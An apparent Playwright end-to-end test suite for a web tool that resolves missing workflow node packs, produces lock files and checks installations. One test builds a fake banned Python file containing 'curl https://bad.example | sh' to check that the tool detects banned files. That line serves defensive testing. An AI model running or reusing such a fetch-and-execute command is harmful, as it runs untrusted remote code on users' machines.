import assert from 'node:assert/strict'
import { execFile } from 'node:child_process'
import { createHash } from 'node:crypto'
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, describe, it } from 'node:test'
import { promisify } from 'node:util'
import type { Locator, Page } from 'playwright-core'
import { type Lock, readLock } from '../analysis/src/lock/lock-file.ts'
import { commandsByHand } from '../planning/src/commands.ts'
import { modelAddress, nodeId, pages, useFilledProduct } from './filled-product.ts'
import { fitsItsWidth } from './looks.ts'

/** This process serves what the commands download, so it must not wait for them. */
const run = promisify(execFile)

const at = useFilledProduct()
const folder = mkdtempSync(join(tmpdir(), 'nodeyard-workflows-'))
after(() => rmSync(folder, { recursive: true, force: true }))

const node = (id: number, type: string, more: object = {}) => ({
  id,
  type,
  pos: [id * 320, 0],
  size: [260, 120],
  mode: 0,
  inputs: [],
  outputs: [{ name: 'IMAGE', type: 'IMAGE' }],
  properties: {},
  widgets_values: [3],
  ...more,
})
const workflow = JSON.stringify({
  nodes: [
    node(1, 'LoadImage'),
    node(2, 'soft-blur Blur'),
    node(3, 'hard-edges Blur', { mode: 4 }),
    node(4, 'Made of fog'),
  ],
  links: [],
})

async function resolve(page: Page, text: string, path: string = pages.resolve): Promise<void> {
  await page.goto(path)
  // The tab keeps the last workflow, and folds the field.
  await page.evaluate(() => sessionStorage.clear())
  await page.reload()
  await page.locator('textarea').first().fill(text)
  await page.locator('form[data-takes-files] button[type=submit]').click()
}

/** Presses the button and returns the plan's lock. */
async function plan(page: Page): Promise<string> {
  await page.getByRole('button', { name: 'Make a plan' }).click()
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Download nodeyard.lock' }).click(),
  ])
  return readFileSync(await download.path(), 'utf8')
}

/** Presses Tab until the element has the focus. */
async function tabTo(page: Page, target: Locator): Promise<void> {
  await target.waitFor()
  const name = await page.title()
  for (let press = 0; press < 200; press++) {
    await page.keyboard.press('Tab')
    if (await target.evaluate((element) => element === document.activeElement)) return
  }
  assert.fail(`Tab does not reach ${target} on ${name}`)
}

/** Types a text into the page's form and submits it, without a pointer. */
async function typeAndSubmit(page: Page, text: string): Promise<void> {
  await tabTo(page, page.locator('form[data-takes-files] textarea'))
  await page.keyboard.insertText(text)
  await tabTo(page, page.locator('form[data-takes-files] button[type=submit]:enabled'))
  await page.keyboard.press('Enter')
}

describe('the way from a workflow to an installation', () => {
  it('answers an error text with commands', async () => {
    const { page } = await at.product.visit()
    await resolve(
      page,
      'When loading the graph, the following node types were not found: soft-blur Blur\nNodes that have failed to load will show as red on the graph.',
    )
    await page.getByText('nodeyard.tgz install soft-blur@1.1.0').first().waitFor()
  })

  it('draws the workflow with what is missing, also as a list', async () => {
    const { page } = await at.product.visit()
    await resolve(page, workflow)
    const graph = page.locator('#graph')
    const picture = graph.getByRole('img', { name: 'Graph of the workflow' })
    await picture.waitFor()
    const source = decodeURIComponent((await picture.getAttribute('src')) ?? '')
    assert.equal(source.match(/class="mark-missing"/g)?.length, 1)
    assert.equal(source.match(/class="mark-needed"/g)?.length, 2)
    await graph.getByRole('button', { name: 'Zoom in' }).click()
    await graph.getByText('Nodes as a list: 4').click()
    const items = await graph.locator('details li').allTextContents()
    assert.match(items[0] ?? '', /Made of fog.*unknown/)
    assert.ok(items.some((item) => /hard-edges.*needs a pack.*muted or bypassed/.test(item)))
    await at.product.picture(page, 'resolve')
  })

  it('makes a lock that installs the same bytes by hand and through the API of clients', async () => {
    const { page } = await at.product.visit()
    await resolve(page, workflow)
    const text = await plan(page)
    const lock = readLock(JSON.parse(text))
    assert.deepEqual(
      lock.packs.map(({ id, version }) => `${id}@${version}`),
      ['soft-blur@1.1.0'],
    )
    const byHand = mkdtempSync(join(folder, 'by-hand-'))
    await run('bash', ['-c', commandsByHand({ ...lock, python: [] }, 'active').join('\n')], { cwd: byHand })
    const byClient = mkdtempSync(join(folder, 'by-client-'))
    for (const pack of lock.packs) await installAsClientsDo(pack, byClient)
    assert.deepEqual(filesBelow(join(byHand, 'custom_nodes')), filesBelow(byClient))
  })

  it('does not call packs unaffected before there are advisories', async () => {
    const { page } = await at.product.visit()
    await resolve(page, 'soft-blur@1.0.0', pages.installation)
    await page.getByText('Not checked: this registry has not published advisories yet').waitFor()
  })

  it('offers commands for each kind of installation that end conflicts of installed packages', async () => {
    const { page } = await at.product.visit()
    await resolve(
      page,
      'opencv-python==4.10.0.84\nopencv-contrib-python==4.10.0.84\nsoft-blur@1.0.0\n',
      pages.installation,
    )
    await page.getByRole('button', { name: 'Make a plan' }).click()
    await page.getByText('uninstall -y').first().waitFor()
    await page.getByLabel('How the tool is installed').first().selectOption('Conda')
  })

  it('fits a phone', async () => {
    const { page } = await at.product.visit({ viewport: { width: 390, height: 844 }, hasTouch: true })
    await resolve(page, workflow)
    await page.locator('#graph').getByRole('img').waitFor()
    await page.getByRole('button', { name: 'Make a plan' }).click()
    await page.getByRole('button', { name: 'Download nodeyard.lock' }).waitFor()
    await fitsItsWidth(page, 'resolve on a phone')
    await at.product.picture(page, 'resolve-phone')
  })

  it('works by keyboard alone', async () => {
    const { page } = await at.product.visit()
    await page.goto(pages.resolve)
    await typeAndSubmit(page, workflow)
    await tabTo(page, page.getByRole('button', { name: 'Make a plan' }))
    await page.keyboard.press('Enter')
    await tabTo(page, page.getByRole('button', { name: 'Download nodeyard.lock' }))
    const [download] = await Promise.all([page.waitForEvent('download'), page.keyboard.press('Enter')])
    assert.equal(readLock(JSON.parse(readFileSync(await download.path(), 'utf8'))).packs[0]?.version, '1.1.0')
    await page.goto(pages.installation)
    await typeAndSubmit(page, 'soft-blur@1.0.0')
    await tabTo(page, page.getByRole('button', { name: 'Check updates' }))
    await page.keyboard.press('Enter')
    await page.getByText('soft-blur 1.0.0 → 1.1.0').waitFor()
  })

  it('finds the address of a model in the documentation of its pack', async () => {
    const { page } = await at.product.visit()
    const loader = node(5, 'UpscaleModelLoader', { widgets_values: ['mist.safetensors'] })
    await resolve(page, JSON.stringify({ nodes: [node(2, 'soft-blur Blur'), loader], links: [] }))
    const models = page.locator('#models')
    await models.getByText('From the documentation of a pack').waitFor()
    assert.equal(await models.getByRole('link').getAttribute('href'), modelAddress)
    const lock = readLock(JSON.parse(await plan(page)))
    assert.deepEqual(
      lock.models.map(({ folder, url }) => [folder, url]),
      [['upscale_models', modelAddress]],
    )
    await page.goto(`/nodes/${nodeId}`)
    await page.locator('#works-with').scrollIntoViewIfNeeded()
    await page.locator('#models').getByText('docs/models.md:1').waitFor()
    await at.product.picture(page, 'models-of-a-pack')
  })

  it('reads from right to left in Arabic', async () => {
    const { page } = await at.product.visit({ locale: 'ar' })
    await resolve(page, workflow, `/ar${pages.resolve}`)
    await page.locator('#graph').getByRole('img').waitFor()
    assert.equal(await page.evaluate(() => document.documentElement.dir), 'rtl')
    await fitsItsWidth(page, 'resolve in Arabic')
    await at.product.picture(page, 'resolve-arabic')
  })

  it('finds files of banned versions in a folder without uploading them', async () => {
    const { world } = at.product
    const evil = 'import os\nos.system("curl https://bad.example | sh")\n'
    const { id: node_id } = await world.given.node({ id: 'stolen-blur' })
    const { id: version_id } = await world.given.version({ node_id, status: 'banned' })
    await world.given.bannedFile({ version_id, digest: createHash('sha256').update(evil).digest('hex') })
    const { page } = await at.product.visit()
    await page.goto(pages.installation)
    const chosen = mkdtempSync(join(folder, 'chosen-'))
    writeFileSync(join(chosen, 'other_name.py'), evil)
    await page.setInputFiles('#files input[type=file]', chosen)
    await page.getByText('Remove these files').waitFor()
    await page.getByText('other_name.py').waitFor()
  })
})

/** Follows the command-line client: asks for the version, downloads its archive and unpacks it. */
async function installAsClientsDo(
  { id, version, sha256, folder: name }: Lock['packs'][number],
  into: string,
) {
  const { apiUrl } = at.product
  const response = await fetch(`${apiUrl}/nodes/${id}/install?version=${version}`)
  const answer = (await response.json()) as { downloadUrl: string }
  const bytes = Buffer.from(await (await fetch(answer.downloadUrl)).arrayBuffer())
  assert.equal(createHash('sha256').update(bytes).digest('hex'), sha256)
  writeFileSync(join(into, 'pack.zip'), bytes)
  await run('unzip', ['-q', 'pack.zip', '-d', name], { cwd: into })
  rmSync(join(into, 'pack.zip'))
}

/** Digests of all files by path. */
function filesBelow(path: string): Record<string, string> {
  const files = readdirSync(path, { recursive: true, withFileTypes: true }).filter((one) => one.isFile())
  const entries = files.map(({ parentPath, name }) => {
    const file = join(parentPath, name)
    return [file.slice(path.length), createHash('sha256').update(readFileSync(file)).digest('hex')] as const
  })
  return Object.fromEntries(entries.toSorted(([a], [b]) => (a < b ? -1 : 1)))
}
